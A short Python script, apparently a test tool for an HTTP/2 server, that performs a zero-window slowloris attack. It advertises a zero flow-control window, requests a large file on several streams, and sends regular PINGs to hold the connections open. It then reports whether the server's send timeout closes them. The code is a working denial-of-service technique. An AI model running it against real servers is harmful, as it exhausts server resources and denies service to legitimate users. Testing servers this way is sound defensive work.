#!/usr/bin/python3
"""Zero-window slowloris: SETTINGS_INITIAL_WINDOW_SIZE 0 and no connection WINDOW_UPDATE, then requests for a large
file that the server can never send, while PINGs every --ping-interval keep the connection looking alive. Waits for
the server's send_timeout to end the connection."""
import time

from h2wire import Conn, PingFrame, SettingsFrame, common_args

p = common_args(__doc__)
p.add_argument("--path", default="/big.bin")
p.add_argument("--streams", type=int, default=10)
p.add_argument("--ping-interval", type=float, default=0.5, help="0: no PINGs")
a = p.parse_args()
c = Conn(a, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0, SettingsFrame.ENABLE_PUSH: 0}, auto_window=False)
c.wait(lambda: c.server_settings, 2)
ids = [c.get(a.path) for _ in range(a.streams)]
deadline = time.monotonic() + min(a.seconds, 10)
pings = 0
while not c.ended() and time.monotonic() < deadline:
    if a.ping_interval > 0:
        c.send(PingFrame(0, opaque_data=b"slowlori"))
        pings += 1
    c.pump(a.ping_interval if a.ping_interval > 0 else 0.2)
c.report(streams=a.streams, pings_sent=pings, pings_acked=c.pings_acked,
         statuses=sorted({c.streams[s].status for s in ids if c.streams[s].status is not None}),
         body_bytes=sum(c.streams[s].body_len for s in ids))
